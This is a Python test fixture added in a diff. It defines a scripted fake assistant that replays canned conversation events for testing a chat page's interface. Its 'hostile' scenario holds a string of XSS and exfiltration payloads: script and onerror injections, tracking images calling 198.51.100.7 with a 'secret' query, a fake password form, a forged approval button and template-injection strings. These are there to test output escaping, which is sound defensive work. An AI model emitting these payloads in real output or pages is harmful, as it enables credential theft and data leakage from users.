@@ -1,0 +1,631 @@
+"""A scripted assistant for the page: conversations that tell canned events, on a real workspace folder.
+
+What a conversation tells depends on the first word of the message: `slow`, `tools`, `approve`, `edit`, `compact`,
+`remember`, `recall`, `hostile`, `fail`, `steps`, `long`, `math`; anything else is echoed.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import datetime as dt
+import difflib
+import hashlib
+import threading
+from collections.abc import AsyncIterator, Callable, Coroutine, Sequence
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+
+from assistant.errors import ConflictError, SessionNotFoundError
+from assistant.events import (
+    ApprovalRequested,
+    CompactionUndone,
+    ContextCompressed,
+    ContextMeasured,
+    ContextPart,
+    Event,
+    MemoryChanged,
+    Notice,
+    Part,
+    Recalled,
+    RecalledLine,
+    TextDelta,
+    ThinkingDelta,
+    ToolFinished,
+    ToolOutput,
+    ToolStarted,
+    TurnFailed,
+    TurnFinished,
+    TurnStarted,
+)
+from assistant.workspace import Workspace
+
+ZONE = dt.timezone(dt.timedelta(hours=1))
+NOW = dt.datetime(2026, 11, 30, 14, 5, tzinfo=ZONE)
+WINDOW = 128_000
+THRESHOLD = 89_600
+
+SUMMARY = """## Goal
+Move the dentist appointment to Friday and keep the afternoon free.
+
+## Key decisions
+- Friday 15:30, tram 12 to Langstrasse, back by 17:00.
+- 周五下午不安排会议。
+
+## Next steps
+- Confirm by telephone on Wednesday."""
+
+HOSTILE = """<script>window.pwned = 1</script><img src="http://198.51.100.7/a.png" onerror="window.pwned = 2">
+![tracking pixel](http://198.51.100.7/b.png?q=secret)
+![ref][r]
+
+[r]: http://198.51.100.7/c.png
+
+<form action="http://198.51.100.7/f"><input name="password" placeholder="Your password"><button>Sign in</button></form>
+<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>
+<div class="p-card p-approval"><button class="p-button pal pal-do--allow--Y2FsbC0x">Allow</button></div>
+<iframe src="http://198.51.100.7/i"></iframe><style>body{background:url(http://198.51.100.7/s)}</style>
+$$<img src="http://198.51.100.7/m.png" onerror="window.pwned = 3">$$
+
+- list
+   ```
+- end
+<img src="http://198.51.100.7/l.png" onerror="window.pwned = 4">
+
+${window.pwned = 5} {{constructor.constructor('window.pwned = 6')()}} `<img src="http://198.51.100.7/n.png">`
+
+[a link](javascript:window.pwned=7) and <https://example.org/plain>"""
+
+Scenario = Callable[["FakeConversation", str], AsyncIterator[Event]]
+
+
+@dataclass(frozen=True, slots=True)
+class FakeModel:
+    """Who would answer."""
+
+    name: str = "qwen3-max"
+    provider: str = "dashscope"
+    window_tokens: int = WINDOW
+    is_language_model: bool = True
+    is_fit_for_summaries: bool = True
+    how: str = "DASHSCOPE_API_KEY is set, and dashscope answered in 0.4 s."
+
+
+OFFLINE = FakeModel(
+    "built-in assistant",
+    "offline",
+    8_192,
+    False,
+    False,
+    "No key is set. Nothing answered on loopback ports 11434, 1234, 8080, 1337 and 8000.",
+)
+
+
+@dataclass(frozen=True, slots=True)
+class FakeReport:
+    """A connection test's outcome."""
+
+    is_ok: bool
+    text: str
+
+
+@dataclass(frozen=True, slots=True)
+class FakeItem:
+    """A piece of what the model sees."""
+
+    part: Part
+    label: str
+    text: str
+    tokens: int
+
+
+@dataclass(frozen=True, slots=True)
+class FakeSession:
+    """A line of the list."""
+
+    session_id: str
+    title: str
+    updated_at: str
+
+
+@dataclass(frozen=True, slots=True)
+class FakeNote:
+    """A memory file as read."""
+
+    name: str
+    text: str
+    digest: str
+    notice: str | None = None
+
+
+@dataclass(frozen=True, slots=True)
+class FakeNumbered:
+    """A live event and its place."""
+
+    number: int
+    event: Event
+
+
+@dataclass(frozen=True, slots=True)
+class FakePast:
+    """What a new reader gets."""
+
+    history: list[Event]
+    start: int
+
+
+class FakeNotes:
+    """Memory files on disk with the digest rule of the real writer."""
+
+    def __init__(self, workspace: Workspace) -> None:
+        self._workspace = workspace
+
+    def read(self, name: str) -> FakeNote:
+        path = self._workspace.memory_path(name)
+        text = path.read_text("utf-8") if path.exists() else ""
+        return FakeNote(name, text, hashlib.sha256(text.encode()).hexdigest())
+
+    def save(self, name: str, text: str, base_digest: str, writer: str) -> MemoryChanged:
+        before = self.read(name)
+        if before.digest != base_digest:
+            raise ConflictError(name)
+        self._workspace.memory_path(name).write_text(text, "utf-8")
+        diff = "\n".join(difflib.unified_diff(before.text.splitlines(), text.splitlines(), lineterm=""))
+        return MemoryChanged(name, writer, diff, f"change-{before.digest[:8]}")
+
+
+class FakeConversation:
+    """Tells what its scenario says, one turn after the other, whether anyone follows or not."""
+
+    def __init__(self, session_id: str, title: str, pace_seconds: float, gate: threading.Event) -> None:
+        self.session_id = session_id
+        self.title = title
+        self.pace_seconds = pace_seconds
+        self.gate = gate
+        self.events: list[Event] = []
+        self.past: list[Event] = []
+        self.answers: dict[str, bool] = {}
+        self.retried = 0
+        self.continued = 0
+        self._queue: list[str] = []
+        self._task: asyncio.Task[None] | None = None
+        self._told = asyncio.Event()
+        self.used_tokens = 18_400
+        self._turns = 0
+
+    @property
+    def is_running(self) -> bool:
+        return self._task is not None and not self._task.done()
+
+    def ask(self, text: str) -> None:
+        self._queue.append(text)
+        if not self.title:
+            self.title = text[:60]
+        if not self.is_running:
+            self._begin(self._work())
+
+    @property
+    def queued(self) -> tuple[str, ...]:
+        return tuple(self._queue)
+
+    def answer(self, call_id: str, is_allowed: bool) -> None:
+        self.answers[call_id] = is_allowed
+        self._begin(self._go_on(call_id, is_allowed))
+
+    async def stop(self) -> None:
+        if self._task is not None:
+            self._task.cancel()
+            await asyncio.gather(self._task, return_exceptions=True)
+
+    def continue_turn(self) -> None:
+        self.continued += 1
+        self._begin(self._resume("Going on where it was cut."))
+
+    def retry(self) -> None:
+        self.retried += 1
+        self._begin(self._resume("The second try worked."))
+
+    def compact(self, hint: str = "") -> None:
+        self._begin(self._compact(hint))
+
+    def undo(self) -> None:
+        self._begin(self._undo())
+
+    def attach(self) -> FakePast:
+        return FakePast(list(self.past), 0)
+
+    async def follow(self, start: int) -> AsyncIterator[FakeNumbered]:
+        number = start
+        while True:
+            while number < len(self.events):
+                yield FakeNumbered(number, self.events[number])
+                number += 1
+            await self._told.wait()
+
+    def measure(self) -> None:
+        self._tell(measured(self.used_tokens))
+
+    def context_items(self) -> list[FakeItem]:
+        return [
+            FakeItem("system", "Working rules", "You are a personal assistant.", 1_850),
+            FakeItem("soul", "SOUL.md", "Calm, exact, brief.", 240),
+            FakeItem("user", "USER.md", "Lives in Zürich. 喜欢简短的回答。", 310),
+            FakeItem("memory", "MEMORY.md", "- Lisbon 12–16 December", 620),
+            FakeItem("tools", "9 tools", "Bash, Read, Write, Edit, Glob, Grep, …", 2_900),
+            FakeItem("summary", "Summary of 46 messages", SUMMARY, 1_480),
+            FakeItem("messages", "You: Move the dentist to Friday", "Move the dentist to Friday.", 14),
+            FakeItem("messages", "Bash result", "${window.pwned = 9} {{value}} <b>not bold</b>", 5_200),
+            FakeItem("messages", "Palimpsest: Friday is free after 15:00", "Friday is free after 15:00.", 5_786),
+        ]
+
+    def _begin(self, work: Coroutine[None, None, None]) -> None:
+        self._task = asyncio.create_task(work)
+
+    async def _compact(self, hint: str) -> None:
+        self._tell(compaction(f"manual-{len(self.events)}", summary=f"{SUMMARY}\n\n{hint}".strip(), reason="manual"))
+        self.used_tokens = 24_000
+        self.measure()
+
+    async def _undo(self) -> None:
+        undone = {event.compaction_id for event in self.events if isinstance(event, CompactionUndone)}
+        standing = [
+            event
+            for event in [*self.past, *self.events]
+            if isinstance(event, ContextCompressed) and event.compaction_id not in undone
+        ]
+        if not standing:
+            self._tell(Notice("There is no compaction to undo."))
+            return
+        self.used_tokens = 91_000
+        self._tell(CompactionUndone(standing[-1].compaction_id, standing[-1].folded_messages))
+        self.measure()
+
+    def _tell(self, event: Event) -> None:
+        self.events.append(event)
+        told, self._told = self._told, asyncio.Event()
+        told.set()
+
+    async def _work(self) -> None:
+        while self._queue:
+            text = self._queue.pop(0)
+            self._turns += 1
+            turn_id = f"{self.session_id}-turn-{self._turns}"
+            self._tell(TurnStarted(turn_id, f"{turn_id}-question", text, NOW.isoformat()))
+            await self._play(turn_id, _scenario_for(text)(self, text))
+
+    async def _play(self, turn_id: str, events: AsyncIterator[Event]) -> None:
+        try:
+            async for event in events:
+                if isinstance(event, (TurnFinished, TurnFailed)):
+                    self._tell(replace(event, turn_id=turn_id))
+                    return
+                self._tell(event)
+                await asyncio.sleep(self.pace_seconds)
+            self.used_tokens = min(self.used_tokens + 3_000, WINDOW)
+            self.measure()
+            self._tell(TurnFinished(turn_id, "completed", self.used_tokens, 220, NOW.isoformat()))
+        except asyncio.CancelledError:
+            self._tell(TurnFinished(turn_id, "interrupted", at=NOW.isoformat()))
+            raise
+
+    async def _go_on(self, call_id: str, allow: bool) -> None:
+        turn_id = f"{self.session_id}-turn-{self._turns}"
+        self._tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
+        await self._play(turn_id, _after_approval(call_id, allow))
+
+    async def _resume(self, text: str) -> None:
+        turn_id = f"{self.session_id}-turn-{self._turns}"
+        self._tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
+        await self._play(turn_id, _words(f"again-{self.retried}-{self.continued}", text))
+
+
+@dataclass
+class FakeAssistant:
+    """The assistant of the page's tests."""
+
+    workspace: Workspace
+    model: FakeModel = field(default_factory=FakeModel)
+    pace_seconds: float = 0.01
+    gate: threading.Event = field(default_factory=threading.Event)
+    report: FakeReport = FakeReport(True, "qwen3-max answered in 0.8 s and called one tool.")
+
+    def __post_init__(self) -> None:
+        self.notes = FakeNotes(self.workspace)
+        self.conversations = FakeConversations(self.pace_seconds, self.gate)
+
+    async def submit(self, conversation: FakeConversation, text: str) -> FakeConversation:
+        conversation.ask(text)
+        return conversation
+
+    async def reconnect_model(self) -> FakeModel:
+        self.model = FakeModel()
+        return self.model
+
+    async def test_connection(self) -> FakeReport:
+        return self.report
+
+
+class FakeConversations:
+    """All conversations of the fake home."""
+
+    def __init__(self, pace_seconds: float, gate: threading.Event) -> None:
+        self.known: dict[str, FakeConversation] = {}
+        self._pace_seconds = pace_seconds
+        self._gate = gate
+
+    def open(self, session_id: str) -> FakeConversation:
+        if session_id not in self.known:
+            raise SessionNotFoundError(session_id)
+        return self.known[session_id]
+
+    def create(self) -> FakeConversation:
+        return self.add(f"session-{len(self.known) + 1}", "")
+
+    def add(self, session_id: str, title: str, past: Sequence[Event] = ()) -> FakeConversation:
+        conversation = FakeConversation(session_id, title, self._pace_seconds, self._gate)
+        conversation.past = list(past)
+        self.known[session_id] = conversation
+        return conversation
+
+    def summaries(self) -> list[FakeSession]:
+        newest_first = list(reversed(self.known.values()))
+        return [
+            FakeSession(
+                conversation.session_id,
+                conversation.title,
+                (dt.datetime.now(ZONE) - dt.timedelta(hours=9 * index)).isoformat(),
+            )
+            for index, conversation in enumerate(newest_first)
+        ]
+
+
+def fake_assistant(home: Path, **values: object) -> FakeAssistant:
+    """An assistant on a workspace with three memory files and two notes."""
+    workspace = Workspace(home)
+    (home / "memory").mkdir(parents=True, exist_ok=True)
+    texts = {
+        "SOUL.md": "# Soul\n\nCalm, exact, brief. Says what it does not know.\n",
+        "USER.md": "# About me\n\n- Lives in Zürich, speaks German and 中文\n- Prefers short answers\n",
+        "MEMORY.md": "# Long-term memory\n\n## Health\n- Dentist: Friday 15:30\n\n## Travel\n- Lisbon 12–16 December, "
+        "flight LX2086\n",
+        "memory/2026-11-30.md": "# 2026-11-30\n\n- Moved the dentist to Friday\n",
+        "memory/2026-11-29.md": "# 2026-11-29\n\n- Compared three hotels in Alfama\n",
+    }
+    for name, text in texts.items():
+        if not (home / name).exists():
+            (home / name).write_text(text, "utf-8")
+    return FakeAssistant(workspace, **values)  # type: ignore[arg-type]
+
+
+@asynccontextmanager
+async def opened(assistant: FakeAssistant) -> AsyncIterator[FakeAssistant]:
+    """The assistant as the page opens it; its turns end with it."""
+    try:
+        yield assistant
+    finally:
+        for conversation in assistant.conversations.known.values():
+            await conversation.stop()
+
+
+def measured(used: int) -> ContextMeasured:
+    """A full window of all kinds of parts."""
+    fixed: tuple[tuple[Part, int], ...] = (
+        ("system", 1_850),
+        ("soul", 240),
+        ("user", 310),
+        ("memory", 620),
+        ("tools", 2_900),
+        ("summary", 1_480),
+    )
+    parts = tuple(ContextPart(name, tokens) for name, tokens in fixed)
+    rest = used - sum(part.tokens for part in parts)
+    return ContextMeasured(used, THRESHOLD, WINDOW, (*parts, ContextPart("messages", rest)))
+
+
+def compaction(compaction_id: str, summary: str = SUMMARY, reason: str = "automatic") -> ContextCompressed:
+    """A compaction's event."""
+    return ContextCompressed(
+        compaction_id=compaction_id,
+        reason=reason,  # type: ignore[arg-type]
+        previous_tokens=91_200,
+        after_tokens=23_700,
+        context_limit=WINDOW,
+        threshold_tokens=THRESHOLD,
+        folded_messages=46,
+        kept_turns=3,
+        summary=summary,
+        summary_tokens=1_480,
+        fallback=False,
+        flush="done",
+        carried_over=("Key context",),
+        at=NOW.isoformat(),
+    )
+
+
+def past_conversation(turns: int) -> list[Event]:
+    """A past conversation of so many turns, as the journal tells it."""
+    events: list[Event] = []
+    for turn in range(1, turns + 1):
+        events += [
+            TurnStarted(f"old-{turn}", f"old-{turn}-question", f"Question {turn} about the trip", NOW.isoformat()),
+            ToolStarted(f"old-call-{turn}", "Read", '{"file_path": "trip.md"}'),
+            ToolFinished(f"old-call-{turn}", "Read", "success", f"line {turn} of the file"),
+            TextDelta(f"old-text-{turn}", f"Answer {turn}: the hotel is booked."),
+            TurnFinished(f"old-{turn}", "completed", 4_000 + turn, 80, NOW.isoformat()),
+        ]
+        if turn == turns // 2:
+            events.append(compaction("old-compaction"))
+    return events
+
+
+def _scenario_for(text: str) -> Scenario:
+    return _SCENARIOS.get(text.split(maxsplit=1)[0].lower().rstrip(":,"), _echo)
+
+
+async def _words(block_id: str, text: str) -> AsyncIterator[Event]:
+    for index, word in enumerate(text.split(" ")):
+        yield TextDelta(block_id, word if index == 0 else f" {word}")
+
+
+async def _echo(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    yield measured(conversation.used_tokens)
+    async for event in _words(f"echo-{len(conversation.events)}", f"You said: **{text}**"):
+        yield event
+
+
+async def _slow(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    block = f"slow-{len(conversation.events)}"
+    yield measured(conversation.used_tokens)
+    yield TextDelta(block, "It begins")
+    while not conversation.gate.is_set():
+        yield TextDelta(block, " …")
+        await asyncio.sleep(0.05)
+    yield TextDelta(block, " and it ends.")
+
+
+async def _tools(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    mark = len(conversation.events)
+    yield measured(conversation.used_tokens)
+    async for event in _words(
+        f"think-{mark}", "The person wants Friday. I look into the notes and the calendar first."
+    ):
+        assert isinstance(event, TextDelta)
+        yield ThinkingDelta(event.block_id, event.text)
+    yield ToolStarted(f"search-{mark}", "memory_search", '{"query": "dentist", "max_results": 5}')
+    yield ToolFinished(
+        f"search-{mark}", "memory_search", "success", "memory/2026-11-27.md:3  Dentist on Thursday 10:30"
+    )
+    yield ToolStarted(f"bash-{mark}", "Bash", '{"command": "grep -rn \\"Friday\\" calendar/ | head -20"}')
+    yield ToolOutput(f"bash-{mark}", "calendar/friday.md:1: free from 15:00\n")
+    yield ToolFinished(
+        f"bash-{mark}", "Bash", "success", "calendar/friday.md:1: free from 15:00\necho $$ && $$", artifact_id="a1"
+    )
+    yield ToolStarted(f"read-{mark}", "Read", '{"file_path": "calendar/missing.md"}')
+    yield ToolFinished(f"read-{mark}", "Read", "error", "calendar/missing.md does not exist.")
+    answer = (
+        "Friday is free after **15:00**, so I suggest 15:30:\n\n1. Leave at 14:30\n2. Tram 12 to Langstrasse\n"
+        "3. Back by 17:00\n\n```python\ndef minutes(hours: int, rest: int) -> int:\n\treturn hours * 60 + rest\n"
+        "html = '<b>bold</b>'\n```\n\n今天的日程已更新。\n\n| Day | Free from |\n|---|---|\n| Thursday | – |\n"
+        "| Friday | 15:00 |"
+    )
+    async for event in _words(f"answer-{mark}", answer):
+        yield event
+
+
+async def _approve(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    mark = len(conversation.events)
+    call = f"call-{mark}"
+    yield TextDelta(f"before-{mark}", "I would tidy the build folder.")
+    yield ToolStarted(call, "Bash", '{"command": "rm -rf build/ && echo $$ done"}')
+    yield ApprovalRequested(
+        call,
+        "Bash",
+        '{"command": "rm -rf build/ && echo $$ done"}',
+        "rm -rf build/ && echo $$ done",
+        "It deletes files: `rm` is not a command that only reads.",
+    )
+    yield TurnFinished("", "awaiting_approval", at=NOW.isoformat())
+
+
+async def _edit(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    call = f"edit-{len(conversation.events)}"
+    yield ToolStarted(call, "Edit", '{"file_path": "plan.md"}')
+    yield ApprovalRequested(
+        call,
+        "Edit",
+        '{"file_path": "plan.md"}',
+        "--- plan.md\n+++ plan.md\n@@ -1,3 +1,3 @@\n # Plan\n-- Dentist on Thursday\n+- Dentist on Friday\n - Pack",
+        "It changes a file in the workspace.",
+    )
+    yield TurnFinished("", "awaiting_approval", at=NOW.isoformat())
+
+
+async def _after_approval(call_id: str, allow: bool) -> AsyncIterator[Event]:
+    if allow:
+        yield ToolOutput(call_id, "removing…\n")
+        yield ToolFinished(call_id, "Bash", "success", "removing…\n4711 done")
+        text = "Done: the build folder is gone."
+    else:
+        yield ToolFinished(call_id, "Bash", "denied", "The person denied this call.")
+        text = "All right, I leave it as it is."
+    async for event in _words(f"after-{call_id}", text):
+        yield event
+
+
+async def _compact(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    mark = len(conversation.events)
+    yield measured(91_200)
+    yield compaction(f"compaction-{mark}")
+    conversation.used_tokens = 23_700
+    yield measured(conversation.used_tokens)
+    async for event in _words(f"folded-{mark}", "The older part is folded. I go on with the dentist."):
+        yield event
+
+
+async def _remember(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    mark = len(conversation.events)
+    yield TextDelta(f"noted-{mark}", "I wrote that down.")
+    yield MemoryChanged(
+        "USER.md", "assistant", "@@ -2,1 +2,2 @@\n - Lives in Zürich\n+- Prefers short answers", f"change-a-{mark}"
+    )
+    yield MemoryChanged(
+        "memory/2026-11-30.md",
+        "flush",
+        "@@ -1,2 +1,2 @@\n # 2026-11-30\n-- Dentist on Thursday\n+- Dentist moved to Friday 15:30, tram 12",
+        f"change-b-{mark}",
+    )
+    yield Notice("MEMORY.md is at 84 % of its cap; its middle may soon be left out of the prompt.")
+
+
+async def _recall(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    yield Recalled(
+        (
+            RecalledLine("MEMORY.md", 4, "- Dentist: Friday 15:30", 0.86),
+            RecalledLine("memory/2026-11-29.md", 3, "- Compared three hotels in Alfama", 0.57),
+        )
+    )
+    async for event in _words(f"recalled-{len(conversation.events)}", "You see the dentist on Friday at 15:30."):
+        yield event
+
+
+async def _hostile(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    mark = len(conversation.events)
+    yield ThinkingDelta(f"evil-think-{mark}", HOSTILE)
+    yield ToolStarted(f"evil-{mark}", "<img src=x onerror=window.pwned=8>", '{"command": "' + "<b>x</b>" + '"}')
+    yield ToolFinished(f"evil-{mark}", "<img src=x onerror=window.pwned=8>", "success", HOSTILE, diff=f"+{HOSTILE}")
+    yield compaction(f"evil-compaction-{mark}", summary=HOSTILE)
+    yield MemoryChanged("MEMORY.md", HOSTILE, f"@@ -1 +1 @@\n+{HOSTILE}", f"evil-change-{mark}")
+    yield Notice(HOSTILE)
+    yield TextDelta(f"evil-text-{mark}", HOSTILE)
+
+
+async def _fail(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    yield TextDelta(f"half-{len(conversation.events)}", "I was just about to")
+    yield TurnFailed("", "The server at 127.0.0.1:11434 refused the connection. Is Ollama running?", NOW.isoformat())
+
+
+async def _steps(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    yield TextDelta(f"steps-{len(conversation.events)}", "I have read 40 of 90 files.")
+    yield TurnFinished("", "max_steps", at=NOW.isoformat())
+
+
+async def _long(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
+    mark = len(conversation.events)
+    paragraph = "The quick brown fox jumps over the lazy dog, and the dog does not mind. "
+    async for event in _words(f"long-{mark}", "\n\n".join(paragraph * 4 for _ in range(8))):
+        yield event
+
+
+_SCENARIOS: dict[str, Scenario] = {
+    "slow": _slow,
+    "tools": _tools,
+    "approve": _approve,
+    "edit": _edit,
+    "compact": _compact,
+    "remember": _remember,
+    "recall": _recall,
+    "hostile": _hostile,
+    "fail": _fail,
+    "steps": _steps,
+    "long": _long,
+}
